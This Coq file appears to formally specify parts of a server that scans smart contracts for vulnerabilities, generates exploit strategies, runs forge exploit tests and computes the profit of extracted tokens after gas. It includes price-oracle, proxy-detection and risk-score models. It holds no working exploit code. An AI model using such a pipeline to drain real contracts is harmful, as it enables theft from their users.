Definition unknownToken (t : NormalizedToken) : bool :=
  truthyText (error t) || negb (truthyText (symbol t)).

(** What one token adds to the score. *)
Definition tokenRisk (t : NormalizedToken) : nat :=
  ((if lowLiquidity t then 2 else 0) + (if highImpact t then 3 else 0)
   + (if unknownToken t then 4 else 0))%nat.

Definition amendedRiskScore (tokens : list NormalizedToken) (netProfitUSD : Q) : nat :=
  (fold_right (fun t score => tokenRisk t + score) 0 tokens + profitTerm netProfitUSD)%nat.

End Score.

(** A token worth 5000 dollars whose contract reports an empty symbol. *)
Definition namelessToken : Extracted.ExtractedToken :=
  Scenario.token "5000000000000000000000" None None.

Definition namelessArgs : Args :=
  {| arg_chainId := 1;
     arg_extractedTokens := [namelessToken];
     arg_blockNumber := None;
     arg_gasUsed := None;
     arg_gasPrice := None |}.

End RiskSpec.

(** Two extracted tokens, the second with an amount that is not a number. *)
Module TwoTokens.

Import RevenueNormalizer.

Definition argsOf (tokens : list Extracted.ExtractedToken) : Args :=
  {| arg_chainId := 1;
     arg_extractedTokens := tokens;
     arg_blockNumber := None;
     arg_gasUsed := None;
     arg_gasPrice := None |}.

(** One dollar coin, then a token whose amount is the text "abc". *)
Definition oneDollar : Extracted.ExtractedToken := Scenario.token "1000000" (Some "USDC") (Some 6).
Definition malformed : Extracted.ExtractedToken := Scenario.token "abc" (Some "USDT") (Some 6).

(** 0.004 of a dollar coin: a positive amount below half a cent. *)
Definition dust : Extracted.ExtractedToken := Scenario.token "4000" (Some "USDC") (Some 6).

(** The entry that the loop of [execute] pushes for a token. *)
Definition entryOf {A : JsNum.Arith} (priceOracle : PriceOracleService.PriceOracle)
  (ethers : Library) (chainId : Z) (blockNumber : option string)
  (token : Extracted.ExtractedToken) : NormalizedToken :=
  match normalizeToken priceOracle ethers token chainId blockNumber with
  | Ok normalizedToken => normalizedToken
  | Throw message => failedToken token message
  end.

End TwoTokens.

(** The inputs on which the reported profit is examined. *)
Module Profit.

Import RevenueNormalizer.

(** A whole number of cents. *)
Definition cents (x : Q) : Prop := exists k : Z, (x == k # 100)%Q.

(** The total and the net profit of [execute] before they are rounded
    for the report. *)
Definition unroundedTotalUSD {A : JsNum.Arith} (priceOracle : PriceOracleService.PriceOracle)
  (ethers : Library) (args : Args) : Q :=
  sumUSD (processTokens priceOracle ethers (arg_chainId args) (arg_blockNumber args)
            (arg_extractedTokens args)).

Definition unroundedNetProfitUSD {A : JsNum.Arith} (priceOracle : PriceOracleService.PriceOracle)
  (ethers : Library) (args : Args) (gas : GasCosts) : Q :=
  JsNum.sub (unroundedTotalUSD priceOracle ethers args) (costUSD gas).


(** Ten cents and twenty cents of revenue, thirty cents of gas:
    3 units of gas at 100000 gwei, the native token at 1000 dollars. *)
Definition breakEven : Args :=
  {| arg_chainId := 1;
     arg_extractedTokens := [ Scenario.token "10" (Some "USDC") (Some 2);
                              Scenario.token "20" (Some "USDT") (Some 2) ];
     arg_blockNumber := None;
     arg_gasUsed := Some 3%Q;
     arg_gasPrice := Some "100000" |}.


(** One dollar of revenue, thirty cents of gas. *)
Definition modest : Args :=
  {| arg_chainId := 1;
     arg_extractedTokens := [ Scenario.token "100" (Some "USDC") (Some 2) ];
     arg_blockNumber := None;
     arg_gasUsed := Some 3%Q;
     arg_gasPrice := Some "100000" |}.

End Profit.

(** A session on a contract whose source holds a single delegatecall. *)
Module Session.

Import McpServer.

(** The execution stage ran a strategy and its ExecutionResult has
    [success == true]. *)
Definition executionSucceeded (exploitResult : ConcreteExecution.Output) : Prop :=
  exists bestStrategy executionResult vulnerabilities allStrategies,
    exploitResult
    = ConcreteExecution.Executed bestStrategy executionResult vulnerabilities allStrategies
    /\ get "success" executionResult = JBool true.

Definition config : Config :=
  {| contractAddress := "0x00000000000000000000000000000000000000aa";
     chainId := 1;
     blockNumber := None |}.

(** The world of the session: the source text is fetched and sanitised
    as it is, forge is absent and the simulator draws [r1], 0.5 and 0.5. *)
Definition world (A : JsNum.Arith) (sourceCode : string) (r1 : Q) : World :=
  {| source_code_fetcher := fun _ => Ok sourceCode;
     constructor_parameters := fun _ => Ok JNull;
     state_reader := fun _ => Ok JNull;
     code_sanitizer := fun text => Ok text;
     harness := Fixture.simulator r1 (1 # 2) (1 # 2);
     Number_toString := Scenario.printNumber;
     priceOracle := Scenario.oracle A 3000 1 "USDC";
     ethers := Scenario.library A;
     databaseAccepts := fun _ => true;
     statusAccepts := fun _ _ => true |}.

Definition empty : Storage := {| sessionStatus := []; exploitDiscoveries := [] |}.

End Session.

(** The doubles of the kernel, against which [JsNum.round64] is checked. *)
Module Kernel64.

(** The value of a finite kernel double. *)
Definition valueOf (f : PrimFloat.float) : Q :=
  match FloatOps.Prim2SF f with
  | SpecFloat.S754_finite s m e =>
      let v := (inject_Z (Zpos m) * JsNum.pow2 e)%Q in Qred (if s then - v else v)%Q
  | _ => 0%Q
  end.

(** The kernel double of an integer below 2^53. *)
Definition ofInteger (n : Z) : PrimFloat.float :=
  match n with
  | Z0 => PrimFloat.zero
  | Zpos p => FloatOps.SF2Prim (SpecFloat.S754_finite false p 0)
  | Zneg p => FloatOps.SF2Prim (SpecFloat.S754_finite true p 0)
  end.

(** Quotients of integers, among them the decimal literals of the sources
    and the amounts of the scenarios. *)
Definition samples : list (Z * Z) :=
  [ (1, 10); (2, 10); (3, 10); (18, 10); (11, 10); (7, 10); (6, 10); (8, 10); (5, 100);
    (1, 100); (900000000005, 100); (900000000004, 100); (1, 3); (-2, 7);
    (123456789, 1000) ]%Z.

(** The kernel double nearest to a quotient of integers. *)
Definition quotient (n d : Z) : PrimFloat.float :=
  PrimFloat.div (ofInteger n) (ofInteger d).

(** On two quotients, the kernel's division, sum, difference and product
    are [round64] of the exact ones. *)
Definition agrees (a b : Z * Z) : bool :=
  let x := quotient (fst a) (snd a) in
  let y := quotient (fst b) (snd b) in
  Qeq_bool (valueOf x) (JsNum.round64 (inject_Z (fst a) / inject_Z (snd a)))
  && Qeq_bool (valueOf (PrimFloat.add x y)) (JsNum.round64 (valueOf x + valueOf y))
  && Qeq_bool (valueOf (PrimFloat.sub x y)) (JsNum.round64 (valueOf x - valueOf y))
  && Qeq_bool (valueOf (PrimFloat.mul x y)) (JsNum.round64 (valueOf x * valueOf y)).

End Kernel64.

(** Texts and their case. *)
Module Text.

(** [text.toLowerCase()], on a text of ASCII characters. *)
Definition toLowerCase (text : string) : string :=
  string_of_list_ascii (map Regex.lower (list_ascii_of_string text)).

(** The text [s] begins with the characters [w]. *)
Fixpoint startsWith (w s : list ascii) : bool :=
  match w, s with
  | [], _ => true
  | a :: w', b :: s' => Ascii.eqb a b && startsWith w' s'
  | _ :: _, [] => false
  end.

End Text.

(** The iteration of a starred pattern, as [Regex.run] unfolds it. *)
Module Matching.

Definition starLoop (ignoreCase greedy : bool) (r1 : Regex.re) (R : Type)
  (k : list ascii -> option R) : nat -> list ascii -> option R :=
  fix loop (fuel : nat) (s : list ascii) : option R :=
    match fuel with
    | O => k s
    | S fuel' =>
        let more :=
          Regex.run ignoreCase r1 R s (fun s' =>
            if (List.length s' <? List.length s)%nat then loop fuel' s' else None) in
        if greedy
        then match more with Some x => Some x | None => k s end
        else match k s with Some x => Some x | None => more end
    end.

End Matching.

(** The double nearest to a positive rational, as [JsNum.round64] computes it. *)
Module Rounding.

(** The exponent of the last bit of the mantissa. *)
Definition exponentOf (q : Q) : Z := Z.max (JsNum.ilog2 q - 52) (-1074).

Definition nearest (q : Q) : Q :=
  (inject_Z (JsNum.roundHalfEven (q / JsNum.pow2 (exponentOf q))) * JsNum.pow2 (exponentOf q))%Q.

End Rounding.

(** The entries of a normalisation, token by token. *)
Module Entries.

Import RevenueNormalizer.

(** The arguments of a call, with another list of extracted tokens. *)
Definition withTokens (args : Args) (tokens : list Extracted.ExtractedToken) : Args :=
  {| arg_chainId := arg_chainId args;
     arg_extractedTokens := tokens;
     arg_blockNumber := arg_blockNumber args;
     arg_gasUsed := arg_gasUsed args;
     arg_gasPrice := arg_gasPrice args |}.

Section Outcome.
Context {A : JsNum.Arith}.
Variable priceOracle : PriceOracleService.PriceOracle.
Variable ethers : Library.
Variable chainId : Z.
Variable blockNumber : option string.

(** The normalisation of the token returns. *)
Definition normalises (token : Extracted.ExtractedToken) : bool :=
  match normalizeToken priceOracle ethers token chainId blockNumber with
  | Ok _ => true
  | Throw _ => false
  end.

(** The normalisation of the token throws an error whose message is empty. *)
Definition throwsSilently (token : Extracted.ExtractedToken) : bool :=
  match normalizeToken priceOracle ethers token chainId blockNumber with
  | Ok _ => false
  | Throw message => String.eqb message EmptyString
  end.

End Outcome.

(** The entry carries no [error] field. *)
Definition withoutError (t : NormalizedToken) : bool :=
  match error t with
  | Some _ => false
  | None => true
  end.

(** The four classes of [assessLiquidity]. *)
Definition liquidityClasses : list string := ["high"; "medium"; "low"; "very-low"].

(** Every input of the gas computation is there and truthy. *)
Definition gasInputsComplete (gasUsed : option Q) (gasPrice : option string)
  (nativeTokenPrice : Q) : bool :=
  match gasUsed, gasPrice with
  | Some used, Some price =>
      JsNum.truthy used && negb (String.eqb price EmptyString) && JsNum.truthy nativeTokenPrice
  | _, _ => false
  end.

(** Half a unit of gas more than a transfer costs, at 20 gwei. *)
Definition fractionalGas : Args :=
  {| arg_chainId := 1;
     arg_extractedTokens := [ Scenario.token "1000000" (Some "USDC") (Some 6) ];
     arg_blockNumber := None;
     arg_gasUsed := Some (42001 # 2)%Q;
     arg_gasPrice := Some "20" |}.

End Entries.

(** The scan of a source text, category by category. *)
Module Scan.

Import ConcreteExecution.

(** The pattern of an entry of the table matches the text at least once. *)
Definition matched (sourceCode : string) (entry : VulnType * PatternConfig) : bool :=
  match Regex.matchAll (pattern (snd entry)) sourceCode with
  | Some _ => true
  | None => false
  end.

(** The counts of matches and of protective matches beyond which the
    confidence does not change any more. *)
Definition matchCounts : list nat := [0; 1; 2; 3]%nat.
Definition protectionCounts : list nat := [0; 1; 2; 3; 4]%nat.

(** On these counts, more matches never lower the confidence of a
    category and more protective matches never raise it. *)
Definition monotoneTable (exact : bool) : bool :=
  forallb (fun t =>
    forallb (fun n =>
      forallb (fun n' =>
        forallb (fun p =>
          forallb (fun p' =>
            implb ((n <=? n')%nat && (p' <=? p)%nat)
                  (Qle_bool (@confidenceOf (Scenario.arith exact) t n p)
                            (@confidenceOf (Scenario.arith exact) t n' p')))
            protectionCounts)
          protectionCounts)
        matchCounts)
      matchCounts)
    Checks.allTypes.

(** The generators that scale the confidence of the finding down. *)
Definition scaledDown (t : VulnType) : bool :=
  match t with
  | accessControl | integerOverflow | uncheckedCall => true
  | _ => false
  end.

(** On the confidences that a scan can give, the strategy of a finding is
    no more confident than the finding, and a strategy of a scaled
    category has a confidence of 60 at most. *)
Definition strategyTable (exact : bool) : bool :=
  forallb (fun t =>
    forallb (fun n =>
      forallb (fun p =>
        let v := @Checks.vulnerabilityOn (Scenario.arith exact) t EmptyString EmptyString n p in
        match @generateExploitStrategy (Scenario.arith exact) v with
        | Some s =>
            Qle_bool (confidence s) (v_confidence v)
            && implb (scaledDown t) (Qle_bool (confidence s) 60)
        | None => false
        end)
        protectionCounts)
      [1; 2; 3]%nat)
    Checks.allTypes.


(** The address and the arguments of the scenarios. *)
Definition target : string := "0x00000000000000000000000000000000000000aa".

Definition argsOn (sourceCode : string) : Args :=
  {| contractAddress := target;
     chainId := 1;
     blockNumber := None;
     sourceCode := sourceCode |}.

(** A harness with forge, whose test directory cannot be written. *)
Definition readOnly : Harness :=
  {| forgeAvailable := true;
     forgeRun := ForgeService.FilesFailed "EACCES: permission denied, mkdir";
     random := {| ForgeService.draw1 := 0; ForgeService.draw2 := 0; ForgeService.draw3 := 0 |} |}.

End Scan.

(* ================================================================== *)
(** ** SourceCodeFetcher (server/mcp/tools/source-code-fetcher.ts): the detection of proxies *)
(* ================================================================== *)

Module SourceCodeFetcher.

Definition proxyPatterns : list string :=
  [ "delegatecall"; "Proxy"; "Implementation"; "upgradeable"; "EIP1967"; "beacon";
    "minimal proxy"; "clone" ].

(** [isProxyPattern]: one of the patterns occurs in the text, whatever
    the case of either. *)
Definition isProxyPattern (sourceCode : string) : bool :=
  existsb
    (fun pattern => Regex.includes (Text.toLowerCase sourceCode) (Text.toLowerCase pattern))
    proxyPatterns.

(** The [patterns] of [detectProxyType], in the order of their declaration. *)
Definition patterns : list (string * list string) :=
  [ ("EIP-1967",
     [ "_IMPLEMENTATION_SLOT";
       "0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc" ]);
    ("OpenZeppelin", [ "UpgradeableProxy"; "TransparentUpgradeableProxy"; "BeaconProxy" ]);
    ("Minimal Proxy", [ "0x3d602d80600a3d3981f3363d3d373d3d3d363d73"; "EIP-1167" ]);
    ("Diamond", [ "Diamond"; "facet"; "DiamondCut" ]);
    ("Custom", [ "delegatecall"; "assembly" ]) ].

(** [detectProxyType]: the first type one of whose markers occurs in the
    text, in the case of the marker. *)
Definition detectProxyType (sourceCode : string) : string :=
  match find (fun entry => existsb (fun marker => Regex.includes sourceCode marker) (snd entry))
             patterns with
  | Some entry => fst entry
  | None => "Unknown"
  end.

(** The decision of [execute]: the contract is a proxy when Etherscan
    flags it ([Proxy === '1']) or when its source shows a pattern; the
    type of proxy is detected then, and is [null] otherwise. *)
Definition classify (proxyFlag sourceCode : string) : bool * option string :=
  if String.eqb proxyFlag "1" || isProxyPattern sourceCode
  then (true, Some (detectProxyType sourceCode))
  else (false, None).

End SourceCodeFetcher.

(** Sessions on a machine where forge is installed. *)
Module Pipeline.

Import McpServer.

(** What a passing forge test prints. *)
Definition passing : string :=
  "[PASS] testExploit() (gas: 52341)" ++ ConcreteExecution.nl ++ "Profit: 1000".

(** The world of a session: the source text is fetched and sanitised as
    it is, forge is installed and its test run prints [stdout]. *)
Definition withForge (A : JsNum.Arith) (sourceCode stdout : string) : World :=
  {| source_code_fetcher := fun _ => Ok sourceCode;
     constructor_parameters := fun _ => Ok JNull;
     state_reader := fun _ => Ok JNull;
     code_sanitizer := fun text => Ok text;
     harness := Fixture.sandbox stdout;
     Number_toString := Scenario.printNumber;
     priceOracle := Scenario.oracle A 3000 1 "USDC";
     ethers := Scenario.library A;
     databaseAccepts := fun _ => true;
     statusAccepts := fun _ _ => true |}.

(** A world whose database refuses the update of a session to one
    status, and is the given world otherwise. *)
Definition refusing (status : string) (world : World) : World :=
  {| source_code_fetcher := source_code_fetcher world;
     constructor_parameters := constructor_parameters world;
     state_reader := state_reader world;
     code_sanitizer := code_sanitizer world;
     harness := harness world;
     Number_toString := Number_toString world;
     priceOracle := priceOracle world;
     ethers := ethers world;
     databaseAccepts := databaseAccepts world;
     statusAccepts := fun _ given => negb (String.eqb given status) |}.

(** The draws of the simulator in the scenarios. *)
Definition draws : ForgeService.Random :=
  {| ForgeService.draw1 := 1 # 10; ForgeService.draw2 := 1 # 2; ForgeService.draw3 := 1 # 2 |}.

End Pipeline.

(* ================================================================== *)
(** ** PriceOracleService (server/services/price-oracle.ts): the lookups *)
(* ================================================================== *)

(** The methods of the service, over what the chain answers.  Every call
    of a contract is given by its outcome: the value returned, or the
    error thrown.  The answers are integers as the contracts return them
    (an [int256] for a price feed, a [uint112] for a reserve, a [uint256]
    for an amount), on which the products and quotients of the service
    stay finite, but for a division by zero. *)
Module PriceOracleMethods.

Import JsNum.

(** A quotient that may be no finite number: the division by zero gives
    an infinity, or [NaN] for 0 / 0. *)
Inductive Quotient : Type :=
| Finite (q : Q)
| NotFinite.

(** [map.get(key)] and the own properties of an object literal. *)
Fixpoint lookup (key : string) (entries : list (string * string)) : option string :=
  match entries with
  | [] => None
  | (k, v) :: entries' => if String.eqb k key then Some v else lookup key entries'
  end.

(** [this.chainlinkFeeds], as [initializeOracles] fills it. *)
Definition chainlinkFeeds (chainId : Z) : option (list (string * string)) :=
  if (chainId =? 1)%Z then
    Some [ ("ETH/USD", "0x5f4eC3Df9cbd43714FE2740f5E3616155c5b8419");
           ("BTC/USD", "0xF4030086522a5bEEa4988F8cA5B36dbC97BeE88c");
           ("USDC/USD", "0x8fFfFfd4AfB6115b954Bd326cbe7B4BA576818f6");
           ("USDT/USD", "0x3E7d1eAB13ad0104d2750B8863b489D65364e32D");
           ("DAI/USD", "0xAed0c38402a5d19df6E4c03F4E2DceD6e29c1ee9") ]
  else if (chainId =? 56)%Z then
    Some [ ("BNB/USD", "0x0567F2323251f0Aab15c8dFb1967E4e8A7D42aeE");
           ("ETH/USD", "0x9ef1B8c0E4F7dc8bF5719Ea496883DC6401d5b2e");
           ("BTC/USD", "0x264990fbd0A4796A3E3d8E37C4d5F87a3aCa5Ebf") ]
  else if (chainId =? 137)%Z then
    Some [ ("MATIC/USD", "0xAB594600376Ec9fD91F8e885dADF0CE036862dE0");
           ("ETH/USD", "0xF9680D99D6C9589e2a93a78A04A279e509205945");
           ("BTC/USD", "0xc907E116054Ad103354f2D350FD2514433D57F6f") ]
  else None.

(** [this.dexRouters] *)
Definition dexRouters (chainId : Z) : option (list string) :=
  if (chainId =? 1)%Z then
    Some [ "0x7a250d5630B4cF539739dF2C5dAcb4c659F2488D";
           "0xE592427A0AEce92De3Edee1F18E0157C05861564";
           "0xd9e1cE17f2641f24aE83637ab66a2cca9C378B9F" ]
  else if (chainId =? 56)%Z then
    Some [ "0x10ED43C718714eb63d5aA57B78B54704E256024E";
           "0x13f4EA83D0bd40E75C8222255bc855a974568Dd4" ]
  else if (chainId =? 137)%Z then
    Some [ "0xa5E0829CaCEd8fFDD4De3c43696c57F7D7A678ff";
           "0x1b02dA8Cb0d097eB8D57A175b88c7D8b47997506" ]
  else None.

(** [fallbackPrices] of [getNativeTokenPrice] *)
Definition fallbackPrices {A : Arith} (chainId : Z) : option Q :=
  if (chainId =? 1)%Z then Some (lit 3000)
  else if (chainId =? 56)%Z then Some (lit 300)
  else if (chainId =? 137)%Z then Some (lit (8 # 10))
  else if (chainId =? 42161)%Z then Some (lit 3000)
  else if (chainId =? 10)%Z then Some (lit 3000)
  else None.

(** [tokenFeeds] of [getTokenPriceFromChainlink] *)
Definition tokenFeeds (chainId : Z) : option (list (string * string)) :=
  if (chainId =? 1)%Z then
    Some [ ("0xA0b86a33E6441E1c4B37d8c5C7e48a16c1111111", "USDC/USD");
           ("0xdAC17F958D2ee523a2206206994597C13D831ec7", "USDT/USD");
           ("0x6B175474E89094C44Da98b954EedeAC495271d0F", "DAI/USD") ]
  else None.

(** [wethAddresses] of [getTokenPriceFromDEX] *)
Definition wethAddresses (chainId : Z) : option string :=
  if (chainId =? 1)%Z then Some "0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2"
  else if (chainId =? 56)%Z then Some "0xbb4CdB9CBd36B01bD1cBaEBF2De08d9173bc095c"
  else if (chainId =? 137)%Z then Some "0x0d500B1d8E8eF31E21C99d1Db9A6444d3ADf1270"
  else None.

Definition ZeroAddress : string := "0x0000000000000000000000000000000000000000".

(** The property [object[key]] of an object literal: an own property,
    or one that every object inherits from [Object.prototype] (a function,
    or the prototype itself for [__proto__]), or none. *)
Inductive Property : Type :=
| Own (value : string)
| Inherited
| Absent.

Definition inheritedKeys : list string :=
  [ "constructor"; "__defineGetter__"; "__defineSetter__"; "hasOwnProperty";
    "__lookupGetter__"; "__lookupSetter__"; "isPrototypeOf"; "propertyIsEnumerable";
    "toString"; "valueOf"; "__proto__"; "toLocaleString" ].

Definition property (key : string) (object : list (string * string)) : Property :=
  match lookup key object with
  | Some value => Own value
  | None => if existsb (String.eqb key) inheritedKeys then Inherited else Absent
  end.

(** The calls of the contracts behind [getTokenPriceFromDEX], by their
    arguments. *)
Record Dex : Type := {
  factory : string -> Result string;                    (* router.factory() *)
  getPair : string -> string -> string -> Result string; (* factory.getPair(token, weth) *)
  getReservesAndToken0 : string -> Result (Z * Z * string);
                               (* Promise.all([pair.getReserves(), pair.token0()]) *)
  getAmountsOut : string -> Z -> list string -> Result Z
                               (* amounts[1] of router.getAmountsOut(amountIn, path) *)
}.

(** The calls behind [getTokenMetadata]: the contract of the token, and
    its three views, each settled on its own. *)
Record Erc20 : Type := {
  symbolCall : Result string;
  decimalsCall : Result Z;
  nameCall : Result string
}.

Record Metadata : Type := {
  symbol : string;
  decimals : Z;
  name : option string
}.

(** What [getTokenPriceFromDEX] resolves to. *)
Record DexPrice : Type := {
  dexPriceUSD : Q;
  dexLiquidityUSD : Q;
  dexPriceImpact : Quotient
}.

(** What [getTokenPrice] resolves to. *)
Record Quote : Type := {
  priceUSD : Q;
  priceETH : Quotient;
  liquidityUSD : Q;
  priceImpact : Quotient;
  sources : list string;
  confidence : Q
}.

(** The state of [getTokenPrice] as it goes. *)
Record Progress : Type := {
  p_priceUSD : Q;
  p_liquidityUSD : Q;
  p_priceImpact : Quotient;
  p_sources : list string;
  p_confidence : Q
}.

Section Service.
Context {A : Arith}.

(** [Number.prototype.toString], for the messages. *)
Variable Number_toString : Q -> string.

(** [BlockchainService.providers.has(chainId)] *)
Variable hasProvider : Z -> bool.

Definition getProvider (chainId : Z) : Result unit :=
  if hasProvider chainId then Ok tt
  else Throw ("No provider configured for chain ID " ++ Number_toString (inject_Z chainId)).

(** [parseFloat(ethers.formatUnits(value, decimals))]: the decimal
    numeral of value / 10^decimals, read as a number. *)
Definition fromUnits (value : Z) (decimals : Z) : Q :=
  rnd (inject_Z value / inject_Z (10 ^ decimals)).

(** [x / y] *)
Definition divide (x y : Q) : Quotient :=
  if Qeq_bool y 0 then NotFinite else Finite (div x y).

(** [getChainlinkPrice], over the answer of [latestRoundData] of the
    feed at the block. *)
Definition getChainlinkPrice (latestRoundData : string -> option string -> Result Z)
  (feedAddress : string) (chainId : Z) (blockNumber : option string) : Result Q :=
  let! provider := getProvider chainId in
  let! answer := latestRoundData feedAddress blockNumber in
  Ok (fromUnits answer 8).

(** The body of the [try] of [getNativeTokenPrice]. *)
Definition nativeTokenPrice (latestRoundData : string -> option string -> Result Z)
  (chainId : Z) (blockNumber : option string) : Result Q :=
  match chainlinkFeeds chainId with
  | None =>
      Throw ("No price feeds configured for chain " ++ Number_toString (inject_Z chainId))
  | Some chainFeeds =>
      let feedAddress :=
        if (chainId =? 1)%Z then lookup "ETH/USD" chainFeeds
        else if (chainId =? 56)%Z then lookup "BNB/USD" chainFeeds
        else if (chainId =? 137)%Z then lookup "MATIC/USD" chainFeeds
        else match chainlinkFeeds 1 with
             | Some ethFeeds => lookup "ETH/USD" ethFeeds
             | None => None
             end in
      match feedAddress with
      | Some address =>
          if String.eqb address EmptyString
          then Throw ("No native token price feed found for chain "
                      ++ Number_toString (inject_Z chainId))
          else getChainlinkPrice latestRoundData address chainId blockNumber
      | None =>
          Throw ("No native token price feed found for chain "
                 ++ Number_toString (inject_Z chainId))
      end
  end.

(** [getNativeTokenPrice]: whatever is thrown is caught, and an
    approximate price is returned. *)
Definition getNativeTokenPrice (latestRoundData : string -> option string -> Result Z)
  (chainId : Z) (blockNumber : option string) : Q :=
  match nativeTokenPrice latestRoundData chainId blockNumber with
  | Ok price => price
  | Throw _ =>
      match fallbackPrices chainId with
      | Some price => if truthy price then price else lit 3000
      | None => lit 3000
      end
  end.

Definition getTokenPriceFromChainlink (latestRoundData : string -> option string -> Result Z)
  (tokenAddress : string) (chainId : Z) (blockNumber : option string) : Result Q :=
  match tokenFeeds chainId with
  | None => Throw "No Chainlink feed for token"
  | Some chainTokens =>
      match property (Text.toLowerCase tokenAddress) chainTokens with
      | Absent => Throw "No Chainlink feed for token"
      | Inherited =>
          (* a feed key that is no text is the key of no feed *)
          Throw "Feed address not found"
      | Own feedKey =>
          if String.eqb feedKey EmptyString then Throw "No Chainlink feed for token"
          else
            match match chainlinkFeeds chainId with
                  | Some chainFeeds => lookup feedKey chainFeeds
                  | None => None
                  end with
            | Some feedAddress =>
                if String.eqb feedAddress EmptyString then Throw "Feed address not found"
                else getChainlinkPrice latestRoundData feedAddress chainId blockNumber
            | None => Throw "Feed address not found"
            end
      end
  end.

(** [getTokenPriceFromDEX]; [nativeFeed] answers the price feed of the
    native token at this point. *)
Definition getTokenPriceFromDEX (dex : Dex) (nativeFeed : string -> option string -> Result Z)
  (tokenAddress : string) (chainId : Z) (blockNumber : option string) : Result DexPrice :=
  match dexRouters chainId with
  | None | Some [] => Throw "No DEX routers configured for chain"
  | Some (router :: _) =>
      let! provider := getProvider chainId in
      match wethAddresses chainId with
      | None => Throw "WETH address not configured for chain"
      | Some wethAddress =>
          let! factoryAddress := factory dex router in
          let! pairAddress := getPair dex factoryAddress tokenAddress wethAddress in
          if String.eqb pairAddress ZeroAddress then Throw "No liquidity pair found"
          else
            let! pair := getReservesAndToken0 dex pairAddress in
            let amountIn := (10 ^ 18)%Z in
            let path := [tokenAddress; wethAddress] in
            let! amount := getAmountsOut dex router amountIn path in
            let tokenPriceInWETH := fromUnits amount 18 in
            let wethPriceUSD := getNativeTokenPrice nativeFeed chainId blockNumber in
            let priceUSD := mul tokenPriceInWETH wethPriceUSD in
            let reserve0 := fromUnits (fst (fst pair)) 18 in
            let reserve1 := fromUnits (snd (fst pair)) 18 in
            let wethReserve :=
              if String.eqb (Text.toLowerCase (snd pair)) (Text.toLowerCase wethAddress)
              then reserve0 else reserve1 in
            let liquidityUSD := mul (mul wethReserve wethPriceUSD) (lit 2) in
            let tradeSize := mul liquidityUSD (lit (1 # 100)) in
            let priceImpact :=
              match divide tradeSize liquidityUSD with
              | Finite ratio => Finite (Math_min ratio (lit (1 # 10)))
              | NotFinite => NotFinite
              end in
            Ok {| dexPriceUSD := priceUSD;
                  dexLiquidityUSD := liquidityUSD;
                  dexPriceImpact := priceImpact |}
      end
  end.

(** The first [try] of [getTokenPrice]: the price of Chainlink. *)
Definition afterChainlink (chainlinkPrice : Result Q) : Progress :=
  let start :=
    {| p_priceUSD := lit 0; p_liquidityUSD := lit 0; p_priceImpact := Finite (lit 0);
       p_sources := []; p_confidence := lit 0 |} in
  match chainlinkPrice with
  | Ok price =>
      if gt price (lit 0)
      then {| p_priceUSD := price;
              p_liquidityUSD := p_liquidityUSD start;
              p_priceImpact := p_priceImpact start;
              p_sources := (p_sources start ++ ["Chainlink"])%list;
              p_confidence := add (p_confidence start) (lit 40) |}
      else start
  | Throw _ => start
  end.

(** The second [try]: the price of the DEX. *)
Definition afterDex (progress : Progress) (dexPrice : Result DexPrice) : Progress :=
  match dexPrice with
  | Ok price =>
      if gt (dexPriceUSD price) (lit 0)
      then {| p_priceUSD :=
                if Qeq_bool (p_priceUSD progress) (lit 0) then dexPriceUSD price
                else div (add (p_priceUSD progress) (dexPriceUSD price)) (lit 2);
              p_liquidityUSD := dexLiquidityUSD price;
              p_priceImpact := dexPriceImpact price;
              p_sources := (p_sources progress ++ ["DEX"])%list;
              p_confidence := add (p_confidence progress) (lit 30) |}
      else progress
  | Throw _ => progress
  end.

(** The end of [getTokenPrice]: the price in the native token and the
    confidence; [nativeFeed] answers the price feed of the native token
    at this point. *)
Definition conclude (progress : Progress) (nativeFeed : string -> option string -> Result Z)
  (chainId : Z) (blockNumber : option string) : Quote :=
  let priced := gt (p_priceUSD progress) (lit 0) in
  let priceETH :=
    if priced
    then divide (p_priceUSD progress) (getNativeTokenPrice nativeFeed chainId blockNumber)
    else Finite (lit 0) in
  let confidence :=
    if priced then add (p_confidence progress) (lit 20) else p_confidence progress in
  let confidence :=
    if gt (p_liquidityUSD progress) (lit 1000000) then add confidence (lit 10)
    else confidence in
  let confidence :=
    if (1 <? List.length (p_sources progress))%nat then add confidence (lit 10)
    else confidence in
  {| priceUSD := p_priceUSD progress;
     priceETH := priceETH;
     liquidityUSD := p_liquidityUSD progress;
     priceImpact := p_priceImpact progress;
     sources := p_sources progress;
     confidence := Math_min confidence (lit 100) |}.

(** [getTokenPrice]: the three feeds are what the price feeds answer to
    its three lookups, in their order. *)
Definition getTokenPrice (tokenFeed dexNativeFeed nativeFeed : string -> option string -> Result Z)
  (dex : Dex) (tokenAddress : string) (chainId : Z) (blockNumber : option string) : Quote :=
  let progress :=
    afterChainlink (getTokenPriceFromChainlink tokenFeed tokenAddress chainId blockNumber) in
  let progress :=
    afterDex progress (getTokenPriceFromDEX dex dexNativeFeed tokenAddress chainId blockNumber) in
  conclude progress nativeFeed chainId blockNumber.

(** [getTokenMetadata]: [contract] is the contract of the token, when it
    could be built. *)
Definition getTokenMetadata (contract : Result Erc20) (tokenAddress : string) (chainId : Z) :
  Metadata :=
  match (let! provider := getProvider chainId in contract) with
  | Ok token =>
      {| symbol := match symbolCall token with Ok value => value | Throw _ => "UNKNOWN" end;
         decimals := match decimalsCall token with Ok value => value | Throw _ => 18%Z end;
         name := match nameCall token with Ok value => Some value | Throw _ => None end |}
  | Throw _ => {| symbol := "UNKNOWN"; decimals := 18; name := None |}
  end.

End Service.

(** The quote of a token without a price. *)
Definition unpriced : Quote :=
  {| priceUSD := 0; priceETH := Finite 0; liquidityUSD := 0; priceImpact := Finite 0;
     sources := []; confidence := 0 |}.

(** A price feed that answers every call with the same integer. *)
Definition steady (answer : Z) : string -> option string -> Result Z := fun _ _ => Ok answer.

(** A pool of the token and of the wrapped native token: a pair at the
    address [0x..01], reserves in wei, and the amount out of the router
    for one token in. *)
Definition pool (reserve0 reserve1 : Z) (token0 : string) (amountOut : Z) : Dex :=
  {| factory := fun _ => Ok "0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f";
     getPair := fun _ _ _ => Ok "0x0000000000000000000000000000000000000001";
     getReservesAndToken0 := fun _ => Ok (reserve0, reserve1, token0);
     getAmountsOut := fun _ _ _ => Ok amountOut |}.

End PriceOracleMethods.

(* ================================================================== *)
(** ** StateReader (server/mcp/tools/state-reader.ts): the view functions *)
(* ================================================================== *)

